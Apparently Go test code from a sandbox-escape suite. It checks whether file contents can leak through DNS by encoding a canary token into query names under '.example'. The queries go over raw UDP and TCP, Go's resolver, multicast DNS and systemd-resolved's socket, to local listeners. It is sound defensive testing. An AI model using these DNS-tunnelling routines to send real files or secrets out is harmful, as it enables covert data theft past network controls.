package adversary

import (
	"bufio"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

const dnsSource = "D60 OpenShell#1169 srt#88 CVE-2025-55284"

// names: what the project holds leaves in the names that somebody is asked to resolve.
var names = []Case{
	question("dns_udp", "a resolver", "sendto", sends, serving("udp", "127.0.0.1"),
		func(t *Target, name string) error { return ask(t, unix.SOCK_DGRAM, query(name)) }),
	question("dns_tcp", "a resolver over TCP", "connect, write", connects,
		serving("tcp", "127.0.0.1"),
		func(t *Target, name string) error {
			q := query(name)
			return ask(t, unix.SOCK_STREAM, append(beUint16(len(q)), q...))
		}),
	question("dns_resolver", "another resolver than the machine's through Go's "+
		"library", "connect, write",
		[]string{"socket_connect", "socket_sendmsg"},
		serving("udp", "127.0.0.1"),
		func(t *Target, name string) error { return lookUp(name, t.Args["service"]) }),
	question("dns_configured", "the resolver of /etc/resolv.conf through Go's "+
		"library", "connect, write",
		[]string{"socket_connect", "socket_sendmsg"}, beResolver,
		func(_ *Target, name string) error { return lookUp(name, "") }),
	question("dns_multicast", "the neighbours by multicast", "sendto", sends, hearMulticast,
		askNeighbours),
	question("dns_daemon", "systemd's resolver at its socket", "connect, write", streamHooks,
		func(s *Scene) error {
			return s.listenAtPlace("socket", "/run/systemd/resolve/io.systemd.Resolve")
		},
		func(t *Target, name string) error {
			const method = `{"method":"io.systemd.Resolve.ResolveHostname",` +
				`"parameters":{"name":"%s"}}` + "\x00"
			_, err := attackConnect(fmt.Sprintf(method, name))(t)
			return err
		}),
}

// question is a case that reads a file of the project, which it may, and asks for a name
// made of what is in it.
func question(name, whom, calls string, hooks []string, setup func(*Scene) error,
	send func(t *Target, name string) error) Case {
	return Case{
		Name: name, Family: "dns", Source: dnsSource, Hooks: hooks, Judge: asked,
		What:  "asks for a name made of a file of the project: " + whom,
		Calls: calls,
		Setup: func(s *Scene) error {
			if err := os.WriteFile(s.In("note"), []byte(s.Token), 0o600); err != nil {
				return err
			}
			return setup(s)
		},
		Attack: func(t *Target) ([]byte, error) {
			note, err := read(t.in("note"))
			if err != nil || len(note) < 2 {
				return nil, need(errors.Join(err, errors.New("read the note")))
			}
			half := len(note) / 2 // a label holds 63 bytes
			return nil, send(t, fmt.Sprintf("%s.%s.example", note[:half], note[half:]))
		},
	}
}

// asked finds the canary in what arrived at a listener.
var asked = Judge{"a question with the canary has arrived outside", func(s *Scene) string {
	for _, l := range s.listeners {
		for {
			data, ok := l.received()
			if !ok {
				break
			}
			half := len(s.Token) / 2
			if strings.Contains(string(data), s.Token[:half]) &&
				strings.Contains(string(data), s.Token[half:]) {
				return "a question for a name made of the canary arrived outside"
			}
		}
	}
	return ""
}}

func beUint16(n int) []byte { return binary.BigEndian.AppendUint16(nil, uint16(n)) }

// query is a question for the addresses of a name: a header that says that there is one
// question, the name label by label, type A, class IN.
func query(name string) []byte {
	q := []byte{0xa1, 0x0c, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		q = append(append(q, byte(len(label))), label...)
	}
	return append(q, 0, 0, 1, 0, 1)
}

func ask(t *Target, kind int, q []byte) error {
	at, family, err := t.service("")
	if err != nil {
		return err
	}
	fd, err := openSocket(family, kind)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if kind == unix.SOCK_DGRAM {
		return call("sendto", unix.Sendto(fd, q, 0, at))
	}
	if err := unix.Connect(fd, at); err != nil {
		return call("connect", err)
	}
	_, err = unix.Write(fd, q)
	return call("write", err)
}

// lookUp asks by Go's own resolver, which reads resolv.conf, at another server if one is
// given. It does not wait for an answer.
func lookUp(name, server string) error {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	var sent error = errors.New("no question was sent")
	r := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, at string) (
		net.Conn, error) {
		if server != "" {
			at = server
		}
		conn, err := (&net.Dialer{}).DialContext(ctx, network, at)
		udp, ok := conn.(*net.UDPConn)
		if !ok {
			sent = errors.Join(err, fmt.Errorf("connect to %s: no UDP socket", at))
			return nil, sent
		}
		return &mute{udp, func(err error) { sent = err; cancel() }}, nil
	}}
	_, err := r.LookupNetIP(ctx, "ip4", name+".")
	if sent != nil {
		return errors.Join(sent, err)
	}
	return nil // that nobody answered is right
}

// mute is a socket whose peer does not answer.
type mute struct {
	*net.UDPConn
	written func(error)
}

// Write sends, and lets the reader's wait end.
func (m *mute) Write(b []byte) (int, error) {
	n, err := m.UDPConn.Write(b)
	m.written(err)
	return n, errors.Join(err, m.SetDeadline(time.Now()))
}

// beResolver listens where the first server of resolv.conf is, if that is an address of
// this machine where nobody listens.
func beResolver(s *Scene) error {
	s.alone()
	server, err := firstServer("/etc/resolv.conf")
	if err != nil {
		return err
	}
	_, err = s.listenAt(unix.SOCK_DGRAM, net.JoinHostPort(server, "53"), 0)
	return err
}

func firstServer(conf string) (string, error) {
	f, err := os.Open(conf)
	if err != nil {
		return "", err
	}
	defer f.Close()
	for lines := bufio.NewScanner(f); lines.Scan(); {
		fields := strings.Fields(lines.Text())
		if len(fields) > 1 && fields[0] == "nameserver" {
			return fields[1], nil
		}
	}
	return "", fmt.Errorf("%s names no server", conf)
}

// multicastDNS is where machines without a server ask each other; the port is another.
var multicastDNS = [4]byte{224, 0, 0, 251}

// hearMulticast joins the group on the loopback interface, at a port of its own.
func hearMulticast(s *Scene) error {
	if err := s.ListenInet("service", unix.SOCK_DGRAM, "0.0.0.0", 0); err != nil {
		return err
	}
	lo, err := net.InterfaceByName("lo")
	if err != nil {
		return err
	}
	l := s.listeners[len(s.listeners)-1]
	group := &unix.IPMreqn{Multiaddr: multicastDNS, Ifindex: int32(lo.Index)}
	return call("join a group", unix.SetsockoptIPMreqn(l.fd, unix.IPPROTO_IP,
		unix.IP_ADD_MEMBERSHIP, group))
}

func askNeighbours(t *Target, name string) error {
	at, _, err := t.service(net.IP(multicastDNS[:]).String())
	if err != nil {
		return err
	}
	lo, err := net.InterfaceByName("lo")
	if err != nil {
		return err
	}
	fd, err := openSocket(unix.AF_INET, unix.SOCK_DGRAM)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	from := &unix.IPMreqn{Ifindex: int32(lo.Index)}
	err = unix.SetsockoptIPMreqn(fd, unix.IPPROTO_IP, unix.IP_MULTICAST_IF, from)
	if err != nil {
		return call("setsockopt", err)
	}
	return call("sendto", unix.Sendto(fd, query(name), 0, at))
}
